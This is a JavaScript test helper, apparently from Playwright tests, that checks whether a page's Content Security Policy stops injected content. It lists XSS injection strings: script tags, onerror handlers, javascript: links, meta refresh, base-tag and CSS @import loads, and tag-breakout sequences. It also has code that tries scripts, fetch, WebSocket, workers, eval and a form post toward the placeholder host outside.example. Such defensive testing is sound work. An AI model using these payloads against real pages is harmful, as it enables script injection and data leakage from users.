/** An address that nobody has (RFC 2606); whoever asks for it has broken out. */
export const outside = "https://outside.example";

const run = "window.brokenOut = true";

/** Texts that would run, load, send or lead away, where a page took them for its own. Each is a line, without quotation marks of YAML. */
export const hostileTexts = [
  `<script>${run}</script>`,
  `<img src="${outside}/a.png" onerror="${run}">`,
  `<svg onload="${run}"><image href="${outside}/b.png"/><script>${run}</script></svg>`,
  `<iframe src="${outside}/c"></iframe><object data="${outside}/d"></object>`,
  `<meta http-equiv="refresh" content="0;url=${outside}/e"><base href="${outside}/">`,
  `<style>@import url(${outside}/f.css); body { background: url(${outside}/g.png) }</style>`,
  `<link rel="stylesheet" href="${outside}/h.css"><form action="${outside}/i"><button>Send</button></form>`,
  `[click](javascript:${run}) ![picture](${outside}/j.png) <a href="javascript:${run}">here</a>`,
  `</title></script></style>--><script>${run}</script>`,
];

/**
 * Does in a page what somebody would whose text had become a part of it, and tells what came of it.
 * @param {import("playwright-core").Locator} body the page's body
 * @returns {Promise<{ ran: readonly string[], refused: readonly string[] }>} what ran, and what the page's policy refused, by
 *   directive
 */
export const breakOut = (body) =>
  body.evaluate(async (element, address) => {
    const { document, window } = {
      document: element.ownerDocument,
      window: element.ownerDocument.defaultView,
    };
    const refused = new Set();
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
      refused.add(effectiveDirective),
    );
    const ran = [];
    window.ranInPage = (what) => ran.push(what);
    const add = (tag, given, text = "") => {
      const made = Object.assign(document.createElement(tag), given);
      made.textContent = text;
      element.append(made);
      return made;
    };
    const settled = [];
    const tried = (what, promise) =>
      settled.push(
        promise.then(
          () => ran.push(what),
          () => undefined,
        ),
      );

    add("script", {}, "window.ranInPage('script')");
    add("script", { src: `${address}/1.js` });
    add("script", { src: "data:text/javascript,window.ranInPage('script from data')" });
    add("div", { innerHTML: "<img src=x onerror=\"window.ranInPage('handler')\">" });
    add("a", { href: "javascript:window.ranInPage('link')" }, "link").click();
    add("img", { src: `${address}/2.png` });
    add("link", { rel: "stylesheet", href: `${address}/3.css` });
    add("style", {}, `@import url(${address}/4.css); body { border-image: url(${address}/5.png) }`);
    add("iframe", { src: `${address}/6` });
    add("object", { data: `${address}/7` });
    add("base", { href: `${address}/8/` });
    tried("fetch", window.fetch(`${address}/10`, { mode: "no-cors" }));
    tried(
      "socket",
      new Promise((resolve, reject) => {
        const socket = new window.WebSocket("wss://outside.example/11");
        socket.onopen = resolve;
        socket.onerror = reject;
      }),
    );
    tried(
      "worker",
      new Promise((resolve, reject) => {
        const worker = new window.Worker(window.URL.createObjectURL(new window.Blob(["postMessage(1)"])));
        worker.onmessage = resolve;
        worker.onerror = reject;
      }),
    );
    // Not at once: what a debugger evaluates may make code of texts while it does.
    window.setTimeout(() => {
      try {
        new window.Function("window.ranInPage('text as code')")();
      } catch {
        refused.add("eval");
      }
    });
    await Promise.all(settled);
    await new Promise((resolve) => window.setTimeout(resolve, 300));
    const based = document.baseURI.startsWith(address) ? ["base"] : [];
    return { ran: [...ran, ...based], refused: [...refused].sort() };
  }, outside);

/**
 * Sends a form to {@link outside}, last of all: where the frame around a page refuses, VS Code's, the page is gone.
 * @param {import("playwright-core").Locator} body
 */
export const sendForm = (body) =>
  body
    .evaluate(async (element, action) => {
      const form = Object.assign(element.ownerDocument.createElement("form"), { action, method: "post" });
      element.append(form);
      form.submit();
      await new Promise((resolve) => setTimeout(resolve, 300));
    }, `${outside}/form`)
    .catch((error) => {
      if (!/Execution context was destroyed|Frame was detached/.test(error.message)) throw error;
    });

/**
 * Requests for {@link outside} from any frame of a page, as they come: what was wanted, and how it ended. A page's policy
 * refuses a request that has a number already ("csp"); one that goes on is the network's to fail. Each is told once.
 */
export function watchOutside(page) {
  const requests = [];
  page.context().on("request", (request) => {
    if (request.url().startsWith(outside)) requests.push(request);
  });
  return () =>
    requests.splice(0).map((request) => `${request.url()}: ${request.failure()?.errorText ?? "went on"}`);
}
